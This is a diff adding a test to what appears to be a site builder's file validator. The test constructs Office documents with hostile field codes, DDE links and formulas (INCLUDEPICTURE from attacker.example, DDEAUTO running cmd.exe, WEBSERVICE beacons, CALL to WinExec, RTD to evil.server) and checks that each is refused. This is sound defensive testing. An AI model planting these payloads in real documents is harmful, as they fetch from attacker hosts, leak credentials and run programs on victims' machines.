@@ -319,3 +319,128 @@ def test_csv_cells_a_spreadsheet_would_run_are_refused(tmp_path):
     (project / A).unlink()
     assert build(project).returncode == 0
     assert (project / "site" / "deeper-dives" / "files" / "fine.csv").read_bytes() == GOOD_CSV
+
+
+# --- What Office documents fetch or run without a relationship (attack5/FINDINGS.md 1)
+
+W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+X_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def package(parts: dict[str, str]) -> bytes:
+    """An OOXML zip of `parts` (name: XML), with its content types."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+                   'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+                   'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>')
+        for name, text in parts.items():
+            z.writestr(name, XML + text)
+    return out.getvalue()
+
+
+def word(part: str, body: str) -> bytes:
+    root = "w:document" if part == "word/document.xml" else "w:hdr"
+    return package({part: f"<{root} {W_NS}><w:body>{body}</w:body></{root}>"})
+
+
+def field(*runs: str) -> str:
+    """A complex field whose instruction is written over `runs`, as Word splits it."""
+    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            + "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
+            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def simple(instruction: str) -> str:
+    return f"<w:p><w:fldSimple w:instr='{instruction}'><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>"
+
+
+def sheet(formula: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
+    return package({part: f'<worksheet {X_NS}><sheetData><row r="2"><c r="B2" t="str"><f>{formula}</f><v>x</v>'
+                          "</c></row></sheetData></worksheet>"})
+
+
+def slide(action: str) -> bytes:
+    return package({"ppt/slides/slide1.xml": '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/'
+                    'main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.'
+                    'openxmlformats.org/officeDocument/2006/relationships"><p:cSld><p:spTree><p:sp><p:nvSpPr>'
+                    f'<p:cNvPr id="2" name="Button"><a:hlinkClick r:id="rId2" action="{action}"/></p:cNvPr>'
+                    "</p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"})
+
+
+FETCHES = "that fetches a file when the document opens"
+DDE_LINK = '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
+# (file name, content, what the refusal says): each published before this change.
+OFFICE_ACTIVE = [
+    ("picture.docx", word("word/document.xml", field(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\a.png" \\d ')),
+     f"has a field code INCLUDEPICTURE {FETCHES} (in `word/document.xml`)"),
+    ("split.docx", word("word/document.xml", field(" INCLUDE", 'PICTURE "https://attacker.example/a.png" ')),
+     f"has a field code INCLUDEPICTURE {FETCHES}"),
+    ("text.docx", word("word/header1.xml", simple(' INCLUDETEXT "https://attacker.example/track.docx" ')),
+     f"has a field code INCLUDETEXT {FETCHES} (in `word/header1.xml`)"),
+    ("ddeauto.docx", word("word/footnotes.xml", simple(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
+     "has a field code DDEAUTO that starts another program and reads from it (DDE) when the document opens "
+     "(in `word/footnotes.xml`)"),
+    ("link.docx", word("word/footer2.xml", field(' LINK Excel.Sheet.8 "\\\\\\\\attacker.example\\\\s\\\\x.xls" "" ')),
+     "has a field code LINK that opens another program's file"),
+    ("nested.docx", word("word/document.xml", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
+                         'IMPORT "</w:instrText></w:r>' + field(" PAGE ")[5:-6] + '<w:r><w:instrText>.png"</w:instrText>'
+                         '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), f"has a field code IMPORT {FETCHES}"),
+    ("hyperlink.docx", word("word/document.xml", simple(' HYPERLINK "file://attacker.example/share/x" ')),
+     "has a field code HYPERLINK to `file://attacker.example/share/x` (in `word/document.xml`); a document may link "
+     "only to web"),
+    ("dde.xlsx", package({"xl/externalLinks/externalLink1.xml": f"<externalLink {X_NS}>{DDE_LINK}</externalLink>"}),
+     "has a link to another workbook, which is read when the workbook opens (`externalLink` in "
+     "`xl/externalLinks/externalLink1.xml`)"),
+    ("dde-elsewhere.xlsx", package({"xl/stuff/x.xml": f"<root {X_NS}>{DDE_LINK}</root>"}),
+     "has a DDE link, which starts another program when the workbook opens (`ddeLink` in `xl/stuff/x.xml`)"),
+    ("ole.xlsx", package({"xl/x.xml": f'<root {X_NS}><oleLink r:id="rId1" progId="Package" xmlns:r="r"/></root>'}),
+     "has an OLE link"),
+    ("webservice.xlsx", sheet('_xlfn.WEBSERVICE("https://attacker.example/beacon")'),
+     'has a formula that uses WEBSERVICE, which reaches another computer (cell B2 of `xl/worksheets/sheet1.xml`: '
+     '`_xlfn.WEBSERVICE("https://attacker.example/beacon")`)'),
+    ("image.xlsx", sheet('IMAGE("https://attacker.example/p.png")'), "uses IMAGE, which fetches a picture"),
+    ("call.xlsx", sheet('CALL("kernel32","WinExec","JCJ","calc",0)'), "uses CALL, which calls a program library"),
+    ("pipe.xlsx", sheet("cmd|' /C calc'!A0"), "starts another program and reads from it (a DDE reference"),
+    ("hyper.xlsx", sheet('HYPERLINK("file://attacker.example/share/x","Open the checklist")'),
+     "links to `file://attacker.example/share/x` (HYPERLINK)"),
+    ("named.xlsx", package({"xl/workbook.xml": f'<workbook {X_NS}><definedNames><definedName name="go">'
+                                               'RTD("evil.server",,"x")</definedName></definedNames></workbook>'}),
+     "uses RTD, which starts a real-time data server (`xl/workbook.xml`"),
+    ("program.pptx", slide("ppaction://program"), "has an action `ppaction://program` that runs a program"),
+]
+# Fields and formulas that fetch and run nothing: published.
+GOOD_ACTIVE = {
+    "fields.docx": word("word/document.xml", field(" PAGE ") + simple(' HYPERLINK "https://www.gov.scot/" \\o "tip" ')
+                        + field(" HYPERLINK \\l ", '"_Toc1" ') + simple(" MERGEFIELD Name ")),
+    "sums.xlsx": sheet('IF(SUM(A1:A3)&gt;0,"Call (0131) 623 4300 | ask","")&amp;HYPERLINK("https://www.gov.scot/","web")'),
+    "next.pptx": slide("ppaction://hlinkshowjump?jump=nextslide"),
+}
+
+
+def test_office_fields_links_and_formulas_that_fetch_or_run_are_refused(tmp_path):
+    """Word field codes, Excel's DDE, OLE and workbook links and its
+    formulas, and PowerPoint's program actions need no relationship to fetch
+    or run: each is refused at its download's line by validate and the
+    build, naming what was found, and the site stays as it was."""
+    project = make_project(tmp_path / "p", content={"deeper-dives/fine.md": with_downloads(list(GOOD_ACTIVE), "Fine"),
+                                                    **{f"deeper-dives/files/{n}": c for n, c in GOOD_ACTIVE.items()}})
+    result = build(project)
+    assert result.returncode == 0, result.stderr[-3000:]
+    before = tree_digest(project / "site")
+    write_files(project, {A: with_downloads([name for name, _, _ in OFFICE_ACTIVE]),
+                          **{f"at-a-glance/files/{name}": content for name, content, _ in OFFICE_ACTIVE}})
+    first = GOOD.split("\n").index("status: current") + 3
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
+        refused = problem_lines(out, "unsafe-file")
+        for number, (name, _, says) in enumerate(OFFICE_ACTIVE):
+            line = first + 2 * number
+            assert any(l.startswith(f"{A}:{line}:11 [unsafe-file] downloads, item {number + 1}: file: `files/{name}` ")
+                       and says in l for l in refused), (command, name, says, refused)
+        assert len(refused) == len(OFFICE_ACTIVE), refused
+        assert out.count("hint: Export the file again") == len(OFFICE_ACTIVE)
+    assert tree_digest(project / "site") == before
